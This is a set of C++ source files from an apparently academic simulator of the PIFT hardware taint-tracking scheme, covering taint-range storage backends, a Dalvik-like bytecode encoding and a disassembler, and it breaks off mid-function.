const taint::RangeSet &
IdealRangeStore::rangesFor(ProcId pid)
{
    return sets[pid];
}

} // namespace pift::core
