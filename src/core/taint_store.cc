#include "core/taint_store.hh"

namespace pift::core
{

const char *
sinkVerdictName(SinkVerdict v)
{
    switch (v) {
      case SinkVerdict::Clean:        return "clean";
      case SinkVerdict::Tainted:      return "tainted";
      case SinkVerdict::MaybeTainted: return "maybe-tainted";
    }
    return "?";
}

bool
IdealRangeStore::query(ProcId pid, const taint::AddrRange &r)
{
    auto it = sets.find(pid);
    return it != sets.end() && it->second.overlaps(r);
}

bool
IdealRangeStore::insert(ProcId pid, const taint::AddrRange &r)
{
    return sets[pid].insert(r);
}

bool
IdealRangeStore::remove(ProcId pid, const taint::AddrRange &r)
{
    auto it = sets.find(pid);
    return it != sets.end() && it->second.remove(r);
}

void
IdealRangeStore::clear()
{
    sets.clear();
}

uint64_t
IdealRangeStore::bytes() const
{
    uint64_t total = 0;
    for (const auto &[pid, set] : sets)
        total += set.bytes();
    return total;
}

size_t
IdealRangeStore::rangeCount() const
{
    size_t total = 0;
    for (const auto &[pid, set] : sets)
        total += set.rangeCount();
    return total;
}

const taint::RangeSet &
IdealRangeStore::rangesFor(ProcId pid)
{
    return sets[pid];
}

} // namespace pift::core
