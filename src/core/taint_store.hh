/**
 * @file
 * Backend interface for taint state, plus the ideal (unbounded)
 * implementation.
 *
 * The PIFT tracking algorithm (Algorithm 1) operates on the set R of
 * tainted address ranges through three operations: overlap query on a
 * load, taint (add) on an in-window store, untaint (remove) on an
 * out-of-window store. Section 3.3 of the paper describes several
 * physical realizations (a cache of arbitrary ranges, a fixed
 * word-granularity tag store, secondary storage with eviction); this
 * interface lets the tracker run against any of them, and against the
 * exact unbounded reference used for accuracy experiments.
 *
 * All entries are tagged with the process-specific id, matching the
 * hardware entry layout in Figure 6.
 */

#ifndef PIFT_CORE_TAINT_STORE_HH
#define PIFT_CORE_TAINT_STORE_HH

#include <cstdint>
#include <map>

#include "support/types.hh"
#include "taint/range_set.hh"

namespace pift::core
{

/**
 * Tri-state outcome of a sink check. Bounded storage and a lossy
 * front-end can lose taint (Section 3.3: LRU-drop / drop-new "cost
 * only false negatives"); instead of silently answering Clean, a
 * check against a backend that has lost state for the process
 * degrades to MaybeTainted, so exhaustion yields conservative
 * reporting rather than silent false negatives.
 */
enum class SinkVerdict : uint8_t
{
    Clean = 0,        //!< no overlap, and no state was ever lost
    Tainted = 1,      //!< the checked range overlaps live taint
    MaybeTainted = 2  //!< no overlap, but taint may have been lost
};

/** Printable name of a verdict (bench tables, diagnostics). */
const char *sinkVerdictName(SinkVerdict v);

/** The more severe of two verdicts: Tainted > MaybeTainted > Clean. */
inline SinkVerdict
worstVerdict(SinkVerdict a, SinkVerdict b)
{
    if (a == SinkVerdict::Tainted || b == SinkVerdict::Tainted)
        return SinkVerdict::Tainted;
    if (a == SinkVerdict::MaybeTainted || b == SinkVerdict::MaybeTainted)
        return SinkVerdict::MaybeTainted;
    return SinkVerdict::Clean;
}

/** Abstract taint-state backend used by the PIFT tracker. */
class TaintStore
{
  public:
    virtual ~TaintStore() = default;

    /** Overlap query: does [r] intersect any tainted range of @p pid? */
    virtual bool query(ProcId pid, const taint::AddrRange &r) = 0;

    /**
     * Taint @p r for @p pid.
     * @return true when taint state changed (new bytes covered)
     */
    virtual bool insert(ProcId pid, const taint::AddrRange &r) = 0;

    /**
     * Untaint @p r for @p pid.
     * @return true when taint state changed (bytes removed)
     */
    virtual bool remove(ProcId pid, const taint::AddrRange &r) = 0;

    /** Drop all state for every process. */
    virtual void clear() = 0;

    /** Total tainted bytes currently represented (all processes). */
    virtual uint64_t bytes() const = 0;

    /** Number of distinct range entries currently represented. */
    virtual size_t rangeCount() const = 0;

    /**
     * True when taint state for @p pid may have been lost (capacity
     * eviction without spill, refused insertion, injected storage
     * fault). Exact backends always answer false. Once set, only
     * clear()/clearSaturation() resets it — losing a range poisons
     * every later negative answer for that process.
     */
    virtual bool
    saturated(ProcId pid) const
    {
        (void)pid;
        return false;
    }

    /** Reset all saturation flags (exact backends: no-op). */
    virtual void clearSaturation() {}
};

/**
 * Unbounded, exact taint store: one coalescing RangeSet per process.
 * This is the semantics Algorithm 1 is specified against; the
 * hardware models in taint_storage.hh approximate it under capacity
 * limits.
 */
class IdealRangeStore : public TaintStore
{
  public:
    ~IdealRangeStore() override;

    bool query(ProcId pid, const taint::AddrRange &r) override;
    bool insert(ProcId pid, const taint::AddrRange &r) override;
    bool remove(ProcId pid, const taint::AddrRange &r) override;
    void clear() override;
    uint64_t bytes() const override;
    size_t rangeCount() const override;

    /** Per-process view (for tests and sink diagnostics). */
    const taint::RangeSet &rangesFor(ProcId pid);

  private:
    std::map<ProcId, taint::RangeSet> sets;

    // Telemetry tallies. This store is the replay hot path, so the
    // per-op cost is kept to a plain member increment; the totals are
    // published to the core.range_store.* counters on destruction.
    uint64_t tel_queries = 0;
    uint64_t tel_hits = 0;
    uint64_t tel_inserts = 0;
    uint64_t tel_removes = 0;
};

} // namespace pift::core

#endif // PIFT_CORE_TAINT_STORE_HH
