/**
 * @file
 * Backend interface for taint state, plus the ideal (unbounded)
 * implementation.
 *
 * The PIFT tracking algorithm (Algorithm 1) operates on the set R of
 * tainted address ranges through three operations: overlap query on a
 * load, taint (add) on an in-window store, untaint (remove) on an
 * out-of-window store. Section 3.3 of the paper describes several
 * physical realizations (a cache of arbitrary ranges, a fixed
 * word-granularity tag store, secondary storage with eviction); this
 * interface lets the tracker run against any of them, and against the
 * exact unbounded reference used for accuracy experiments.
 *
 * All entries are tagged with the process-specific id, matching the
 * hardware entry layout in Figure 6.
 */

#ifndef PIFT_CORE_TAINT_STORE_HH
#define PIFT_CORE_TAINT_STORE_HH

#include <cstdint>
#include <map>

#include "support/types.hh"
#include "taint/range_set.hh"

namespace pift::core
{

/** Abstract taint-state backend used by the PIFT tracker. */
class TaintStore
{
  public:
    virtual ~TaintStore() = default;

    /** Overlap query: does [r] intersect any tainted range of @p pid? */
    virtual bool query(ProcId pid, const taint::AddrRange &r) = 0;

    /**
     * Taint @p r for @p pid.
     * @return true when taint state changed (new bytes covered)
     */
    virtual bool insert(ProcId pid, const taint::AddrRange &r) = 0;

    /**
     * Untaint @p r for @p pid.
     * @return true when taint state changed (bytes removed)
     */
    virtual bool remove(ProcId pid, const taint::AddrRange &r) = 0;

    /** Drop all state for every process. */
    virtual void clear() = 0;

    /** Total tainted bytes currently represented (all processes). */
    virtual uint64_t bytes() const = 0;

    /** Number of distinct range entries currently represented. */
    virtual size_t rangeCount() const = 0;
};

/**
 * Unbounded, exact taint store: one coalescing RangeSet per process.
 * This is the semantics Algorithm 1 is specified against; the
 * hardware models in taint_storage.hh approximate it under capacity
 * limits.
 */
class IdealRangeStore : public TaintStore
{
  public:
    bool query(ProcId pid, const taint::AddrRange &r) override;
    bool insert(ProcId pid, const taint::AddrRange &r) override;
    bool remove(ProcId pid, const taint::AddrRange &r) override;
    void clear() override;
    uint64_t bytes() const override;
    size_t rangeCount() const override;

    /** Per-process view (for tests and sink diagnostics). */
    const taint::RangeSet &rangesFor(ProcId pid);

  private:
    std::map<ProcId, taint::RangeSet> sets;
};

} // namespace pift::core

#endif // PIFT_CORE_TAINT_STORE_HH
