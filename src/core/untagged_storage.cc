#include "core/untagged_storage.hh"

#include <algorithm>

#include "support/logging.hh"

namespace pift::core
{

UntaggedTaintStorage::UntaggedTaintStorage(size_t entries)
    : capacity(entries)
{
    pift_assert(entries > 0, "untagged storage needs capacity");
}

void
UntaggedTaintStorage::contextSwitch(ProcId next)
{
    if (have_resident && next == resident)
        return;
    if (have_resident) {
        // Write back: every resident entry travels to main memory.
        stat.entries_written_back += images[resident].rangeCount();
    }
    ++stat.context_switches;
    resident = next;
    have_resident = true;
    stat.entries_reloaded += images[resident].rangeCount();
}

taint::RangeSet &
UntaggedTaintStorage::residentSet(ProcId pid)
{
    if (!have_resident || pid != resident)
        contextSwitch(pid);
    return images[pid];
}

bool
UntaggedTaintStorage::query(ProcId pid, const taint::AddrRange &r)
{
    return residentSet(pid).overlaps(r);
}

bool
UntaggedTaintStorage::insert(ProcId pid, const taint::AddrRange &r)
{
    taint::RangeSet &set = residentSet(pid);
    bool changed = set.insert(r);
    if (set.rangeCount() > capacity)
        ++stat.overflow_spills;
    stat.max_resident = std::max(stat.max_resident, set.rangeCount());
    return changed;
}

bool
UntaggedTaintStorage::remove(ProcId pid, const taint::AddrRange &r)
{
    return residentSet(pid).remove(r);
}

void
UntaggedTaintStorage::clear()
{
    images.clear();
    have_resident = false;
}

uint64_t
UntaggedTaintStorage::bytes() const
{
    uint64_t total = 0;
    for (const auto &[pid, set] : images)
        total += set.bytes();
    return total;
}

size_t
UntaggedTaintStorage::rangeCount() const
{
    size_t total = 0;
    for (const auto &[pid, set] : images)
        total += set.rangeCount();
    return total;
}

} // namespace pift::core
