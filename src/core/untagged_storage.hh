/**
 * @file
 * The untagged taint-storage variant of Section 3.3.
 *
 * "If a secondary storage is allocated on the main memory and the
 * entire range entries are written back when a context switch occurs,
 * we can remove the process-specific identification for each entry
 * and thus can store 4096 entries in the 32KB memory."
 *
 * This model keeps only the *current* process's ranges resident in
 * the (untagged) on-chip entries; a context switch writes every
 * resident entry back to the per-process image in main memory and
 * reloads the incoming process's image. Taint is never lost — the
 * trade is switch-time traffic instead of per-entry PID tags — so the
 * observable tracking behaviour matches the ideal store, while the
 * counters expose the write-back/reload cost the paper alludes to.
 */

#ifndef PIFT_CORE_UNTAGGED_STORAGE_HH
#define PIFT_CORE_UNTAGGED_STORAGE_HH

#include <map>

#include "core/taint_store.hh"
#include "support/types.hh"

namespace pift::core
{

/** Cost counters for the context-switch write-back model. */
struct UntaggedStats
{
    uint64_t context_switches = 0;
    uint64_t entries_written_back = 0;
    uint64_t entries_reloaded = 0;
    uint64_t overflow_spills = 0; //!< resident set exceeded capacity
    size_t max_resident = 0;
};

/** Untagged on-chip entries + per-process main-memory images. */
class UntaggedTaintStorage : public TaintStore
{
  public:
    /**
     * @param entries on-chip entry budget (the paper's 4096 for a
     *        32 KiB memory at 8 bytes per untagged entry)
     */
    explicit UntaggedTaintStorage(size_t entries = 4096);

    /**
     * Switch the resident process: write back the current image and
     * reload @p next's. Called implicitly when an operation arrives
     * for a non-resident process (the kernel module swaps on
     * schedule).
     */
    void contextSwitch(ProcId next);

    bool query(ProcId pid, const taint::AddrRange &r) override;
    bool insert(ProcId pid, const taint::AddrRange &r) override;
    bool remove(ProcId pid, const taint::AddrRange &r) override;
    void clear() override;
    uint64_t bytes() const override;
    size_t rangeCount() const override;

    ProcId residentPid() const { return resident; }
    const UntaggedStats &stats() const { return stat; }

  private:
    /** Make @p pid resident, swapping if needed. */
    taint::RangeSet &residentSet(ProcId pid);

    size_t capacity;
    ProcId resident = 0;
    bool have_resident = false;
    // The resident process's ranges (the on-chip entries) plus the
    // swapped-out images in "main memory".
    std::map<ProcId, taint::RangeSet> images;
    UntaggedStats stat;
};

} // namespace pift::core

#endif // PIFT_CORE_UNTAGGED_STORAGE_HH
