#include "dalvik/bytecode.hh"

#include "support/logging.hh"

namespace pift::dalvik
{

Format
format(Bc bc)
{
    switch (bc) {
      case Bc::Nop:
      case Bc::ReturnVoid:
        return Format::F10x;

      case Bc::Move:
      case Bc::MoveObject:
      case Bc::ArrayLength:
      case Bc::AddInt2Addr:
      case Bc::SubInt2Addr:
      case Bc::MulInt2Addr:
      case Bc::DivInt2Addr:
      case Bc::AndInt2Addr:
      case Bc::OrInt2Addr:
      case Bc::XorInt2Addr:
      case Bc::IntToChar:
      case Bc::IntToByte:
      case Bc::MoveWide:
      case Bc::AddFloat2Addr:
      case Bc::MulFloat2Addr:
      case Bc::DivFloat2Addr:
      case Bc::IntToFloat:
      case Bc::FloatToInt:
        return Format::F12x;

      case Bc::Const4:
        return Format::F11n;

      case Bc::MoveResult:
      case Bc::MoveResultObject:
      case Bc::MoveException:
      case Bc::Return:
      case Bc::ReturnObject:
      case Bc::Throw:
        return Format::F11x;

      case Bc::Goto:
        return Format::F10t;

      case Bc::Const16:
        return Format::F21s;

      case Bc::IfEqz:
      case Bc::IfNez:
      case Bc::IfLtz:
      case Bc::IfGez:
        return Format::F21t;

      case Bc::ConstString:
      case Bc::NewInstance:
      case Bc::CheckCast:
      case Bc::Sget:
      case Bc::SgetObject:
      case Bc::Sput:
      case Bc::SputObject:
        return Format::F21c;

      case Bc::MoveFrom16:
        return Format::F22x;

      case Bc::Aget:
      case Bc::AgetChar:
      case Bc::AgetObject:
      case Bc::Aput:
      case Bc::AputChar:
      case Bc::AputObject:
      case Bc::AddInt:
      case Bc::SubInt:
      case Bc::MulInt:
      case Bc::DivInt:
      case Bc::RemInt:
      case Bc::AndInt:
      case Bc::OrInt:
      case Bc::XorInt:
      case Bc::ShlInt:
      case Bc::ShrInt:
      case Bc::AddLong:
      case Bc::MulLong:
        return Format::F23x;

      case Bc::AddIntLit8:
      case Bc::MulIntLit8:
        return Format::F22b;

      case Bc::IfEq:
      case Bc::IfNe:
      case Bc::IfLt:
      case Bc::IfGe:
      case Bc::IfGt:
      case Bc::IfLe:
        return Format::F22t;

      case Bc::Iget:
      case Bc::IgetObject:
      case Bc::Iput:
      case Bc::IputObject:
      case Bc::NewArray:
        return Format::F22c;

      case Bc::InvokeVirtual:
      case Bc::InvokeStatic:
      case Bc::InvokeDirect:
        return Format::F3rc;

      default:
        pift_panic("format() on invalid bytecode %u",
                   static_cast<unsigned>(bc));
    }
    return Format::F10x;
}

unsigned
unitCount(Bc bc)
{
    switch (format(bc)) {
      case Format::F10x:
      case Format::F12x:
      case Format::F11n:
      case Format::F11x:
      case Format::F10t:
        return 1;
      case Format::F21s:
      case Format::F21t:
      case Format::F21c:
      case Format::F22x:
      case Format::F23x:
      case Format::F22b:
      case Format::F22t:
      case Format::F22c:
        return 2;
      case Format::F3rc:
        return 3;
    }
    return 1;
}

const char *
bcName(Bc bc)
{
    switch (bc) {
      case Bc::Nop:              return "nop";
      case Bc::Move:             return "move";
      case Bc::MoveFrom16:       return "move/from16";
      case Bc::MoveObject:       return "move-object";
      case Bc::MoveResult:       return "move-result";
      case Bc::MoveResultObject: return "move-result-object";
      case Bc::MoveException:    return "move-exception";
      case Bc::ReturnVoid:       return "return-void";
      case Bc::Return:           return "return";
      case Bc::ReturnObject:     return "return-object";
      case Bc::Const4:           return "const/4";
      case Bc::Const16:          return "const/16";
      case Bc::ConstString:      return "const-string";
      case Bc::NewInstance:      return "new-instance";
      case Bc::NewArray:         return "new-array";
      case Bc::CheckCast:        return "check-cast";
      case Bc::ArrayLength:      return "array-length";
      case Bc::Throw:            return "throw";
      case Bc::Iget:             return "iget";
      case Bc::IgetObject:       return "iget-object";
      case Bc::Iput:             return "iput";
      case Bc::IputObject:       return "iput-object";
      case Bc::Sget:             return "sget";
      case Bc::SgetObject:       return "sget-object";
      case Bc::Sput:             return "sput";
      case Bc::SputObject:       return "sput-object";
      case Bc::Aget:             return "aget";
      case Bc::AgetChar:         return "aget-char";
      case Bc::AgetObject:       return "aget-object";
      case Bc::Aput:             return "aput";
      case Bc::AputChar:         return "aput-char";
      case Bc::AputObject:       return "aput-object";
      case Bc::InvokeVirtual:    return "invoke-virtual";
      case Bc::InvokeStatic:     return "invoke-static";
      case Bc::InvokeDirect:     return "invoke-direct";
      case Bc::Goto:             return "goto";
      case Bc::IfEq:             return "if-eq";
      case Bc::IfNe:             return "if-ne";
      case Bc::IfLt:             return "if-lt";
      case Bc::IfGe:             return "if-ge";
      case Bc::IfGt:             return "if-gt";
      case Bc::IfLe:             return "if-le";
      case Bc::IfEqz:            return "if-eqz";
      case Bc::IfNez:            return "if-nez";
      case Bc::IfLtz:            return "if-ltz";
      case Bc::IfGez:            return "if-gez";
      case Bc::AddInt:           return "add-int";
      case Bc::SubInt:           return "sub-int";
      case Bc::MulInt:           return "mul-int";
      case Bc::DivInt:           return "div-int";
      case Bc::RemInt:           return "rem-int";
      case Bc::AndInt:           return "and-int";
      case Bc::OrInt:            return "or-int";
      case Bc::XorInt:           return "xor-int";
      case Bc::ShlInt:           return "shl-int";
      case Bc::ShrInt:           return "shr-int";
      case Bc::AddInt2Addr:      return "add-int/2addr";
      case Bc::SubInt2Addr:      return "sub-int/2addr";
      case Bc::MulInt2Addr:      return "mul-int/2addr";
      case Bc::DivInt2Addr:      return "div-int/2addr";
      case Bc::AndInt2Addr:      return "and-int/2addr";
      case Bc::OrInt2Addr:       return "or-int/2addr";
      case Bc::XorInt2Addr:      return "xor-int/2addr";
      case Bc::AddIntLit8:       return "add-int/lit8";
      case Bc::MulIntLit8:       return "mul-int/lit8";
      case Bc::IntToChar:        return "int-to-char";
      case Bc::IntToByte:        return "int-to-byte";
      case Bc::MoveWide:         return "move-wide";
      case Bc::AddLong:          return "add-long";
      case Bc::MulLong:          return "mul-long";
      case Bc::AddFloat2Addr:    return "add-float/2addr";
      case Bc::MulFloat2Addr:    return "mul-float/2addr";
      case Bc::DivFloat2Addr:    return "div-float/2addr";
      case Bc::IntToFloat:       return "int-to-float";
      case Bc::FloatToInt:       return "float-to-int";
      default:                   return "?";
    }
}

bool
movesData(Bc bc)
{
    return expectedDistance(bc) != -1;
}

int
expectedDistance(Bc bc)
{
    switch (bc) {
      // Distance 1: the return family stores the loaded value to the
      // thread return-value slot immediately.
      case Bc::Return:
      case Bc::ReturnObject:
        return 1;

      // Distance 2.
      case Bc::MoveResult:
      case Bc::MoveResultObject:
      case Bc::MoveFrom16:
      case Bc::Aget:
      case Bc::AgetChar:
      case Bc::AgetObject:
      case Bc::Aput:
      case Bc::AputChar:
      case Bc::Sput:
      case Bc::SputObject:
        return 2;

      // Distance 3.
      case Bc::Move:
      case Bc::MoveObject:
      case Bc::MoveException:
      case Bc::Sget:
      case Bc::SgetObject:
      case Bc::ArrayLength:
        return 3;

      // Distance 4.
      case Bc::Iput:
      case Bc::IputObject:
      case Bc::MoveWide:
        return 4;

      // Distance 5: field gets and the ALU binop families.
      case Bc::Iget:
      case Bc::IgetObject:
      case Bc::AddInt:
      case Bc::SubInt:
      case Bc::MulInt:
      case Bc::AndInt:
      case Bc::OrInt:
      case Bc::XorInt:
      case Bc::ShlInt:
      case Bc::ShrInt:
      case Bc::AddInt2Addr:
      case Bc::SubInt2Addr:
      case Bc::MulInt2Addr:
      case Bc::AndInt2Addr:
      case Bc::OrInt2Addr:
      case Bc::XorInt2Addr:
      case Bc::AddIntLit8:
        return 5;

      // Distance 6.
      case Bc::IntToChar:
      case Bc::IntToByte:
      case Bc::MulIntLit8:
      case Bc::AddLong:
        return 6;

      // The 9-12 bucket.
      case Bc::AputObject:
        return 10;
      case Bc::MulLong:
        return 10;

      // Unknown: routed through ARM runtime ABI helpers.
      case Bc::DivInt:
      case Bc::RemInt:
      case Bc::DivInt2Addr:
      case Bc::AddFloat2Addr:
      case Bc::MulFloat2Addr:
      case Bc::DivFloat2Addr:
      case Bc::IntToFloat:
      case Bc::FloatToInt:
        return -2;

      // Everything else does not move program data between memory
      // locations (consts, control flow, invokes, allocation, ...).
      default:
        return -1;
    }
}

} // namespace pift::dalvik
