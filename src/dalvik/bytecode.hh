/**
 * @file
 * The Dalvik-like bytecode set and its compact encoding.
 *
 * A register-based VM bytecode modelled on Dalvik: operands are
 * virtual registers that live in a memory-resident frame, which is
 * the property PIFT's temporal-locality argument rests on (Section
 * 4.1). The encoding is our own simplified scheme — 16-bit code
 * units, opcode in the low byte of the first unit — not the real dex
 * format; per-opcode operand formats follow the Dalvik format families
 * (12x, 11n, 11x, 10t, 21t, 21s, 22x, 23x, 22t, 22b, 22c, 21c, 3rc).
 *
 * Encoding reference (A/B are reg nibbles, AA a reg byte):
 *   F10x  op                                      (1 unit)
 *   F12x  op | A<<8 | B<<12                       (1 unit)
 *   F11n  op | A<<8 | signed B<<12                (1 unit)
 *   F11x  op | AA<<8                              (1 unit)
 *   F10t  op | signed AA<<8                       (1 unit)
 *   F21s  op | AA<<8 ; #BBBB                      (2 units)
 *   F21t  op | AA<<8 ; signed +BBBB               (2 units)
 *   F21c  op | AA<<8 ; pool/class/field @BBBB     (2 units)
 *   F22x  op | AA<<8 ; vBBBB                      (2 units)
 *   F23x  op | AA<<8 ; BB | CC<<8                 (2 units)
 *   F22b  op | AA<<8 ; BB | signed CC<<8          (2 units)
 *   F22t  op | A<<8 | B<<12 ; signed +CCCC        (2 units)
 *   F22c  op | A<<8 | B<<12 ; field/class @CCCC   (2 units)
 *   F3rc  op | argc<<8 ; method @BBBB ; vCCCC     (3 units)
 *
 * Branch offsets are signed counts of 16-bit code units relative to
 * the first unit of the branch instruction, as in Dalvik.
 */

#ifndef PIFT_DALVIK_BYTECODE_HH
#define PIFT_DALVIK_BYTECODE_HH

#include <cstdint>

namespace pift::dalvik
{

/** Operand format families (drives decode and unit counts). */
enum class Format : uint8_t
{
    F10x, F12x, F11n, F11x, F10t, F21s, F21t, F21c, F22x, F23x,
    F22b, F22t, F22c, F3rc
};

/** The bytecode set. Values are the dispatch indices (low byte). */
enum class Bc : uint8_t
{
    Nop = 0x00,

    Move = 0x01,             // F12x  vA <- vB
    MoveFrom16 = 0x02,       // F22x  vAA <- vBBBB
    MoveObject = 0x03,       // F12x  vA <- vB (object ref)
    MoveResult = 0x04,       // F11x  vAA <- retval
    MoveResultObject = 0x05, // F11x  vAA <- retval (ref)
    MoveException = 0x06,    // F11x  vAA <- pending exception

    ReturnVoid = 0x07,       // F10x
    Return = 0x08,           // F11x  retval <- vAA
    ReturnObject = 0x09,     // F11x  retval <- vAA (ref)

    Const4 = 0x0a,           // F11n  vA <- signed nibble
    Const16 = 0x0b,          // F21s  vAA <- signed 16-bit
    ConstString = 0x0c,      // F21c  vAA <- string pool [BBBB]

    NewInstance = 0x0d,      // F21c  vAA <- new object of class BBBB
    NewArray = 0x0e,         // F22c  vA <- new array[vB] of class CCCC
    CheckCast = 0x0f,        // F21c  type check only
    ArrayLength = 0x10,      // F12x  vA <- length(vB)
    Throw = 0x11,            // F11x  throw vAA

    Iget = 0x12,             // F22c  vA <- vB.field[CCCC]
    IgetObject = 0x13,       // F22c
    Iput = 0x14,             // F22c  vB.field[CCCC] <- vA
    IputObject = 0x15,       // F22c
    Sget = 0x16,             // F21c  vAA <- statics[BBBB]
    SgetObject = 0x17,       // F21c
    Sput = 0x18,             // F21c  statics[BBBB] <- vAA
    SputObject = 0x19,       // F21c

    Aget = 0x1a,             // F23x  vAA <- vBB[vCC] (4-byte elems)
    AgetChar = 0x1b,         // F23x  (2-byte elems)
    AgetObject = 0x1c,       // F23x
    Aput = 0x1d,             // F23x  vBB[vCC] <- vAA
    AputChar = 0x1e,         // F23x
    AputObject = 0x1f,       // F23x  (with type check)

    InvokeVirtual = 0x20,    // F3rc  args vCCCC..vCCCC+argc-1
    InvokeStatic = 0x21,     // F3rc
    InvokeDirect = 0x22,     // F3rc

    Goto = 0x23,             // F10t
    IfEq = 0x24,             // F22t
    IfNe = 0x25,             // F22t
    IfLt = 0x26,             // F22t
    IfGe = 0x27,             // F22t
    IfGt = 0x28,             // F22t
    IfLe = 0x29,             // F22t
    IfEqz = 0x2a,            // F21t
    IfNez = 0x2b,            // F21t
    IfLtz = 0x2c,            // F21t
    IfGez = 0x2d,            // F21t

    AddInt = 0x2e,           // F23x
    SubInt = 0x2f,
    MulInt = 0x30,
    DivInt = 0x31,           // via ABI helper (__aeabi_idiv)
    RemInt = 0x32,           // via ABI helper (__aeabi_idivmod)
    AndInt = 0x33,
    OrInt = 0x34,
    XorInt = 0x35,
    ShlInt = 0x36,
    ShrInt = 0x37,

    AddInt2Addr = 0x38,      // F12x
    SubInt2Addr = 0x39,
    MulInt2Addr = 0x3a,
    DivInt2Addr = 0x3b,      // via ABI helper
    AndInt2Addr = 0x3c,
    OrInt2Addr = 0x3d,
    XorInt2Addr = 0x3e,

    AddIntLit8 = 0x3f,       // F22b  vAA <- vBB + #CC
    MulIntLit8 = 0x40,       // F22b

    IntToChar = 0x41,        // F12x
    IntToByte = 0x42,        // F12x

    MoveWide = 0x43,         // F12x  vA/vA+1 <- vB/vB+1
    AddLong = 0x44,          // F23x  wide
    MulLong = 0x45,          // F23x  wide

    AddFloat2Addr = 0x46,    // F12x, via ABI helper (__aeabi_fadd)
    MulFloat2Addr = 0x47,    // via ABI helper
    DivFloat2Addr = 0x48,    // via ABI helper
    IntToFloat = 0x49,       // F12x, via ABI helper
    FloatToInt = 0x4a,       // F12x, via ABI helper

    NumBcs
};

/** Count of defined bytecodes. */
inline constexpr unsigned num_bytecodes =
    static_cast<unsigned>(Bc::NumBcs);

/** Operand format of @p bc. */
Format format(Bc bc);

/** Code units occupied by an instruction of @p bc. */
unsigned unitCount(Bc bc);

/** Dalvik-style mnemonic ("mul-int/2addr"). */
const char *bcName(Bc bc);

/**
 * True for bytecodes that can move data between memory locations
 * (the highlighted rows of Figure 10): anything whose handler both
 * loads program data and stores program data.
 */
bool movesData(Bc bc);

/**
 * Expected native load-store distance of the handler template, i.e.
 * the Table 1 column: the longest distance (in retired instructions)
 * from a load of actual program data to the data store within one
 * bytecode. Returns -1 for bytecodes that do not move data, and -2
 * for "unknown" (ABI-helper-based) bytecodes.
 */
int expectedDistance(Bc bc);

} // namespace pift::dalvik

#endif // PIFT_DALVIK_BYTECODE_HH
