#include "dalvik/disasm.hh"

#include <cstdarg>
#include <cstdio>
#include <sstream>

#include "support/logging.hh"

namespace pift::dalvik
{

namespace
{

std::string
fmt(const char *pattern, ...)
{
    char buf[96];
    va_list ap;
    va_start(ap, pattern);
    std::vsnprintf(buf, sizeof(buf), pattern, ap);
    va_end(ap);
    return buf;
}

} // anonymous namespace

std::string
disassembleAt(const std::vector<uint16_t> &code, size_t at,
              unsigned &units)
{
    pift_assert(at < code.size(), "disassembly past end of method");
    uint16_t unit0 = code[at];
    auto bc = static_cast<Bc>(unit0 & 0xff);
    units = unitCount(bc);
    pift_assert(at + units <= code.size(),
                "truncated instruction at unit %zu", at);

    unsigned a4 = (unit0 >> 8) & 0xf;
    unsigned b4 = unit0 >> 12;
    unsigned aa = unit0 >> 8;
    uint16_t u1 = units > 1 ? code[at + 1] : 0;
    uint16_t u2 = units > 2 ? code[at + 2] : 0;
    const char *name = bcName(bc);

    switch (format(bc)) {
      case Format::F10x:
        return name;
      case Format::F12x:
        return fmt("%s v%u, v%u", name, a4, b4);
      case Format::F11n:
        return fmt("%s v%u, #int %d", name, a4,
                   static_cast<int>(b4 << 28) >> 28);
      case Format::F11x:
        return fmt("%s v%u", name, aa);
      case Format::F10t:
        return fmt("%s %+d", name,
                   static_cast<int>(static_cast<int8_t>(aa)));
      case Format::F21s:
        return fmt("%s v%u, #int %d", name, aa,
                   static_cast<int16_t>(u1));
      case Format::F21t:
        return fmt("%s v%u, %+d", name, aa, static_cast<int16_t>(u1));
      case Format::F21c:
        return fmt("%s v%u, @%u", name, aa, u1);
      case Format::F22x:
        return fmt("%s v%u, v%u", name, aa, u1);
      case Format::F23x:
        return fmt("%s v%u, v%u, v%u", name, aa, u1 & 0xff, u1 >> 8);
      case Format::F22b:
        return fmt("%s v%u, v%u, #int %d", name, aa, u1 & 0xff,
                   static_cast<int>(static_cast<int8_t>(u1 >> 8)));
      case Format::F22t:
        return fmt("%s v%u, v%u, %+d", name, a4, b4,
                   static_cast<int16_t>(u1));
      case Format::F22c:
        return fmt("%s v%u, v%u, field@%u", name, a4, b4, u1);
      case Format::F3rc:
        return fmt("%s {v%u..v%u}, method@%u", name, u2,
                   u2 + (aa ? aa - 1 : 0), u1);
    }
    return "?";
}

std::string
disassemble(const Method &method)
{
    std::ostringstream os;
    if (method.is_native) {
        os << method.name << ": (native)\n";
        return os.str();
    }
    os << method.name << ": registers=" << method.nregs
       << " ins=" << method.nins;
    if (method.catch_offset >= 0)
        os << " catch@" << method.catch_offset;
    os << "\n";
    size_t at = 0;
    char addr[24];
    while (at < method.code.size()) {
        unsigned units = 0;
        std::string text = disassembleAt(method.code, at, units);
        std::snprintf(addr, sizeof(addr), "%04zx: ", at);
        os << addr << text << "\n";
        at += units;
    }
    return os.str();
}

} // namespace pift::dalvik
