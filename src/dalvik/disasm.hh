/**
 * @file
 * Dalvik-like bytecode disassembler.
 *
 * Renders method code in the style of the paper's Figure 7 listings
 * ("mul-int/2addr v3, v4"). Used by the CLI's dump command and by
 * tests that pin the example programs' shapes.
 */

#ifndef PIFT_DALVIK_DISASM_HH
#define PIFT_DALVIK_DISASM_HH

#include <string>

#include "dalvik/method.hh"

namespace pift::dalvik
{

/**
 * Disassemble the instruction starting at code unit @p at.
 *
 * @param code the method's code units
 * @param at unit index of the instruction's first unit
 * @param[out] units number of code units consumed
 * @return one listing line, e.g. "iget v0, v3, field@4"
 */
std::string disassembleAt(const std::vector<uint16_t> &code, size_t at,
                          unsigned &units);

/** Disassemble a whole method, one line per instruction. */
std::string disassemble(const Method &method);

} // namespace pift::dalvik

#endif // PIFT_DALVIK_DISASM_HH
