#include "dalvik/handlers.hh"

#include "mem/layout.hh"
#include "support/logging.hh"

namespace pift::dalvik
{

namespace
{

using isa::Assembler;
using isa::Cond;
using isa::WriteBack;
using isa::imm;
using isa::memIdx;
using isa::memOff;
using isa::reg;
using isa::regLsl;

constexpr RegIndex r0 = 0, r1 = 1, r2 = 2, r3 = 3, r9 = 9, r10 = 10,
    r11 = 11, r12 = 12, rpc = 15;

/** FETCH_ADVANCE_INST(n): ldrh rINST, [rPC, #2n]! */
void
fetchAdvance(Assembler &a, int units)
{
    a.ldrh(r_inst, memOff(r_pc_bc, 2 * units, WriteBack::Pre));
}

/** FETCH(n): read a later code unit without advancing. */
void
fetch(Assembler &a, RegIndex dst, int unit_off)
{
